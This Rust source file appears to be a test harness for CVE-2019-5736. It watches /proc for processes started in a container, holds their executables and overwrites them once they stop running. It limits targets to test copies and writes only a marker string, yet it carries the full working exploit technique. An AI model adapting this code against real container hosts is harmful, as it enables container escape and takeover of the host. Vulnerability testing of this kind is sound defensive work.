//! CVE-2019-5736: holds on to the program of whoever starts processes in this container, and writes to it as soon as
//! it does not run any more. For ever; what it holds and what it wrote goes to a file, since its streams may end.

use std::collections::BTreeMap;
use std::fs::{self, File, OpenOptions};
use std::io::{self, Write};
use std::os::fd::AsRawFd;
use std::os::unix::fs::{MetadataExt, OpenOptionsExt};

/// Programs by device and inode.
type Held = BTreeMap<(u64, u64), (File, String)>;

/// `out`: where to tell. `programs`: the directory of those that may be harmed, copies that the case made.
pub fn run(out: &str, programs: &str) -> io::Result<()> {
    let mut out = OpenOptions::new().append(true).create(true).open(out)?;
    let own = std::process::id();
    let mut held = Held::new();
    writeln!(out, "looking")?;
    loop {
        for entry in fs::read_dir("/proc")? {
            let pid = entry?.file_name().to_str().and_then(|name| name.parse::<u32>().ok());
            // Younger ones: those that are started here.
            if let Some(pid) = pid.filter(|pid| *pid > own) {
                hold(pid, programs, &mut held, &mut out)?;
            }
        }
        let mut done = Vec::new();
        for (key, (file, name)) in &held {
            // It runs until nobody executes it any more (ETXTBSY).
            let path = format!("/proc/self/fd/{}", file.as_raw_fd());
            let Ok(mut program) = OpenOptions::new().write(true).open(path) else { continue };
            match program.write_all(b"overwritten") {
                Ok(()) => writeln!(out, "reached {name}")?,
                Err(error) => writeln!(out, "refused {name}: {error}")?,
            }
            done.push(*key);
        }
        for key in done {
            held.remove(&key);
        }
    }
}

fn hold(pid: u32, programs: &str, held: &mut Held, out: &mut File) -> io::Result<()> {
    // O_PATH of asm-generic/fcntl.h: an executed file can be held so.
    let flags = rustix::fs::OFlags::PATH.bits().cast_signed();
    let path = format!("/proc/{pid}/exe");
    let (Ok(name), Ok(file)) =
        (fs::read_link(&path), OpenOptions::new().read(true).custom_flags(flags).open(&path))
    else {
        return Ok(());
    };
    // Others of this machine, whose programs could be opened as well, are not to be harmed by a test. A sealed copy is nobody's
    // file.
    if !name.starts_with(programs) && !name.to_string_lossy().starts_with("/memfd:cove") {
        return Ok(());
    }
    let meta = file.metadata()?;
    let name = name.display().to_string();
    if held.insert((meta.dev(), meta.ino()), (file, name.clone())).is_none() {
        writeln!(out, "held {name}")?;
    }
    Ok(())
}
